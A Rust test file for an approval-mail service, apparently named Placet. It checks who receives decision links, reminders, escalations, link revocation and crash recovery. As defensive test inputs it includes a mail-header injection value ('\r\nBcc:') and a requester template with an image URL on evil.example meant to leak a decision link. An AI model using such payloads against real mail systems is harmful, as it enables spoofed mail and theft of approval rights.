//! Mails about operations: who gets one, what it lets its reader do, and that none is lost or sent twice.

use std::time::Duration;

use http::{Method, StatusCode};
use placet_core::DecisionLink;
use placet_core::delivery::{self, Delivery};
use placet_core::operation::{Proof, State};
use placet_runtime::mailbox::KeptMail;
use serde_json::{Value, json};

use crate::client::{call, question};
use crate::crash::at_every_call;
use crate::world::{KEY, PROJECT, World};

const PEOPLE: &str = "
people:
  ana: {name: Ana Ruiz, email: ana@example.com}
  bo: {name: Bo Lind, email: bo@example.com}
  cy: {email: cy@example.com, rights: [operate]}
groups:
  leads: [bo]
";

async fn with_people() -> World {
    let followed = "{approvers: [ana], remind: [10m], escalate: {after: 20m, to: leads}}";
    let building = World::building().sections(PEOPLE).secret("PLACET_SIGN_IN", "required");
    building.operation("followed", followed).start().await
}

/// The mails in the mailbox, oldest first.
fn mails(world: &World) -> Vec<KeptMail> {
    let mailbox = &world.system.mailbox;
    let mut mails: Vec<KeptMail> =
        mailbox.names().unwrap().iter().map(|name| mailbox.mail(name).unwrap().unwrap()).collect();
    mails.sort_by_key(|mail| (mail.at, mail.recipients.clone()));
    mails
}

/// Who got which subjects.
fn subjects(world: &World) -> Vec<(String, String)> {
    let mails = mails(world);
    mails.into_iter().map(|mail| (mail.recipients.concat(), mail.subject)).collect()
}

/// The path of the decision link in a mail, if there is one.
fn link(mail: &KeptMail) -> Option<String> {
    let (_, rest) = mail.text.split_once("http://127.0.0.1:8000/d/")?;
    let token = rest.split_whitespace().next().unwrap();
    assert!(mail.html.contains(token), "both parts have the link");
    Some(format!("/d/{token}"))
}

fn header(mail: &KeptMail, name: &str) -> String {
    let message =
        String::from_utf8_lossy(&mail.message).replace("\r\n ", " ").replace("\r\n\t", " ");
    let line = message.lines().find_map(|line| line.strip_prefix(&format!("{name}: ")));
    line.unwrap_or_default().to_owned()
}

fn email(address: &str) -> Value {
    json!({"email": {"address": address}})
}

#[tokio::test]
async fn every_approver_gets_a_link_of_their_own_and_scanners_change_nothing() {
    let world = with_people().await;
    world.client().created(&call("call-1", "charge")).await;
    world.work().await;
    let sent = mails(&world);
    let recipients: Vec<String> = sent.iter().map(|mail| mail.recipients.concat()).collect();
    assert_eq!(recipients, ["ana@example.com", "bo@example.com"]);
    let links: Vec<String> = sent.iter().map(|mail| link(mail).unwrap()).collect();
    let before = world.contents().await;
    for link in &links {
        for _ in 0..50 {
            for method in [Method::GET, Method::HEAD] {
                assert_eq!(world.request(method, link).page().send().await.status, StatusCode::OK);
            }
        }
    }
    assert_eq!(world.contents().await, before);

    assert_eq!(
        world.submit(&links[0], "comment=&verdict=deny").await.status,
        StatusCode::SEE_OTHER
    );
    let by = world.operation("call-1").await.body.decision.unwrap().by;
    let person = by.person().unwrap();
    assert_eq!((person.id.as_str(), person.proof), ("ana", Proof::Link));
    world.work().await;
    // Ana knows what Ana decided. Bo learns it, in the thread of the request.
    let sent = mails(&world);
    let [of_bo] = &sent[2..] else { panic!("{sent:?}") };
    assert_eq!(of_bo.recipients, ["bo@example.com"]);
    assert!(of_bo.text.contains("charge was denied."), "{}", of_bo.text);
    assert_eq!(link(of_bo), None);
    assert_eq!(header(of_bo, "In-Reply-To"), header(&sent[1], "Message-ID"));
    world.finish().await;
}

/// A requester may name any address. What it gets is the message without the right to decide.
#[tokio::test]
async fn an_address_of_nobody_gets_no_link_and_the_approvers_are_asked_all_the_same() {
    let world = with_people().await;
    let stranger = call("call-1", "charge").with("channel", email("eve@evil.example"));
    world.client().created(&stranger).await;
    world.work().await;
    let sent = mails(&world);
    let with_link: Vec<(String, bool)> =
        sent.iter().map(|mail| (mail.recipients.concat(), link(mail).is_some())).collect();
    let expected =
        [("ana@example.com", true), ("bo@example.com", true), ("eve@evil.example", false)];
    assert_eq!(with_link, expected.map(|(address, link)| (address.to_owned(), link)));
    assert!(sent[2].text.contains("This mail only informs you."), "{}", sent[2].text);
    assert!(!sent[2].html.contains("/d/"));
    world.finish().await;
}

#[tokio::test]
async fn the_address_of_an_approver_in_the_channel_is_asked_alone() {
    let world = with_people().await;
    let of_bo = json!({"email": {"address": "BO@example.com", "subject": "Wood\\r\\nBcc: eve@evil.example"}});
    world.client().created(&question("q", "Oak or pine?").with("channel", of_bo)).await;
    // Cy may not decide, so the address of Cy is that of a stranger.
    world.client().created(&call("of-cy", "charge").with("channel", email("cy@example.com"))).await;
    world.work().await;
    let sent = mails(&world);
    let asked: Vec<String> = sent
        .iter()
        .filter(|mail| mail.text.contains("Oak or pine?"))
        .map(|mail| mail.recipients.concat())
        .collect();
    assert_eq!(asked, ["bo@example.com"]);
    let of_cy = sent.iter().find(|mail| mail.recipients == ["cy@example.com"]).unwrap();
    assert_eq!(link(of_cy), None);
    world.finish().await;
}

/// The template of a requester could send a decision link to its author, for example in the address of a picture.
#[tokio::test]
async fn a_template_of_the_requester_never_sees_a_decision_link() {
    let world = with_people().await;
    let template = "<img src='https://evil.example/?{{ urls.base_url }}'> {{ event.spec.fn }}";
    let channel = json!({"email": {"address": "ana@example.com", "template": template}});
    world.client().created(&call("call-1", "charge").with("channel", channel)).await;
    world.work().await;
    let sent = mails(&world);
    let html = &sent[0].html;
    assert!(html.contains("evil.example") && html.contains("inbox&#x2f;call-1"), "{html}");
    assert!(!html.contains("/d/") && !html.contains("d&#x2f;"), "{html}");
    assert!(sent[0].text.contains("/d/"), "{}", sent[0].text);
    world.finish().await;
}

#[tokio::test]
async fn a_reminder_and_an_escalation_are_mailed_and_end_with_the_decision() {
    let world = with_people().await;
    world.client().created(&call("call-1", "followed")).await;
    world.work().await;
    world.later(Duration::from_secs(601)).await;
    world.later(Duration::from_secs(600)).await;
    let told = subjects(&world);
    let expected = [
        ("ana@example.com", "Approve followed? Requested by local"),
        ("ana@example.com", "Re: Approve followed? Requested by local"),
        ("ana@example.com", "Re: Approve followed? Requested by local"),
        ("bo@example.com", "Urgent: Approve followed? Requested by local"),
    ];
    assert_eq!(told, expected.map(|(who, what)| (who.to_owned(), what.to_owned())));
    // The escalation made Bo an approver.
    let of_bo = link(mails(&world).last().unwrap()).unwrap();
    assert_eq!(
        world.submit(&of_bo, "comment=&verdict=approve").await.status,
        StatusCode::SEE_OTHER
    );
    world.work().await;
    assert_eq!(world.state("call-1").await, State::Approved);
    world.finish().await;
}

#[tokio::test]
async fn escalate_email_mails_every_approver_and_the_recipients_once() {
    let world = with_people().await;
    world
        .client()
        .created(&call("call-1", "charge").with("channel", email("ana@example.com")))
        .await;
    world.work().await;
    let body = json!({"escalation_msg": "It is <urgent>", "additional_recipients": [
        {"address": "ana@example.com"}, {"address": "boss@example.com"}]});
    let path = "/humanlayer/v1/agent/function_calls/call-1/escalate_email";
    assert_eq!(world.post(path).key(KEY).json(&body).send().await.status, StatusCode::OK);
    world.advance(Duration::from_secs(1));
    world.work().await;
    let sent = mails(&world);
    let urgent: Vec<(String, bool)> =
        sent[1..].iter().map(|mail| (mail.recipients.concat(), link(mail).is_some())).collect();
    let expected =
        [("ana@example.com", true), ("bo@example.com", true), ("boss@example.com", false)];
    assert_eq!(urgent, expected.map(|(who, link)| (who.to_owned(), link)));
    assert!(sent[1].text.contains("It is <urgent>") && !sent[1].html.contains("<urgent>"));
    world.finish().await;
}

/// Those who operate Placet learn of an unknown outcome, and of every reminder of it.
#[tokio::test]
async fn an_unknown_outcome_is_mailed_to_those_who_operate_placet() {
    let world = with_people().await;
    world.client().created(&call("call-1", "panics")).await;
    world.work().await;
    let of_ana = link(&mails(&world)[0]).unwrap();
    world.submit(&of_ana, "comment=&verdict=approve").await;
    world.work().await;
    assert_eq!(world.state("call-1").await, State::Unknown);
    world.later(Duration::from_secs(24 * 3600 + 1)).await;
    let of_cy: Vec<KeptMail> =
        mails(&world).into_iter().filter(|mail| mail.recipients == ["cy@example.com"]).collect();
    assert_eq!(of_cy.len(), 2, "the event and one reminder");
    for mail in &of_cy {
        assert!(mail.text.contains("The outcome of panics is unknown."), "{}", mail.text);
        assert!(mail.text.contains("http://127.0.0.1:8000/inbox/call-1"), "{}", mail.text);
    }
    world.finish().await;
}

/// A link that was revoked is in no later mail.
#[tokio::test]
async fn a_later_mail_has_no_revoked_link() {
    let world = with_people().await;
    world.client().created(&call("call-1", "followed")).await;
    world.work().await;
    let token = link(&mails(&world)[0]).unwrap();
    let id = DecisionLink::token_id(token.trim_start_matches("/d/"));
    let revoke = format!("/v1/operations/function_call/call-1/links/{id}/revoke");
    assert_eq!(world.post(&revoke).key(KEY).send().await.status, StatusCode::OK);
    assert_eq!(world.page(&token).await.status, StatusCode::FORBIDDEN);
    world.later(Duration::from_secs(601)).await;
    let reminder = mails(&world).pop().unwrap();
    assert_eq!(link(&reminder), None);
    assert!(reminder.text.contains("http://127.0.0.1:8000/inbox/call-1"), "{}", reminder.text);
    assert!(!reminder.text.contains("only informs you"), "{}", reminder.text);
    world.finish().await;
}

#[tokio::test]
async fn a_mail_that_comes_after_the_decision_is_not_sent() {
    let world = with_people().await;
    world.client().created(&call("call-1", "charge")).await;
    let digest = world.operation("call-1").await.digest;
    let decision = json!({"verdict": "deny", "digest": digest});
    let path = "/v1/operations/function_call/call-1/decision";
    assert_eq!(world.post(path).key(KEY).json(&decision).send().await.status, StatusCode::OK);
    world.work().await;
    let told: Vec<(String, String)> = subjects(&world);
    assert!(told.iter().all(|(_, subject)| subject.starts_with("Re: ")), "{told:?}");
    assert_eq!(told.len(), 2, "{told:?}");
    let store = &world.system.runtime.engine.store;
    let wanted = |_: &placet_core::item::Item<Delivery>| true;
    let page = store.newest::<Delivery>(PROJECT, (None, None), wanted, 10, None).await.unwrap();
    let skipped = page.items.iter().filter(|one| one.state == delivery::State::Skipped);
    assert_eq!(skipped.count(), 2);
    world.finish().await;
}

#[tokio::test]
async fn a_crash_at_any_call_loses_no_mail_and_sends_none_under_two_ids() {
    at_every_call(async |plan| {
        let world = with_people().await;
        let requested = async || {
            world.create("call-1", "charge").await;
            world.work().await;
        };
        let crashed = world.crashes(plan, requested()).await;
        requested().await;
        world.later(Duration::from_secs(16 * 60)).await;
        let sent = mails(&world);
        let recipients: Vec<String> = sent.iter().map(|mail| mail.recipients.concat()).collect();
        assert_eq!(recipients, ["ana@example.com", "bo@example.com"], "{plan:?}");
        world.nothing_is_forgotten().await;
        world.finish().await;
        crashed
    })
    .await;
}
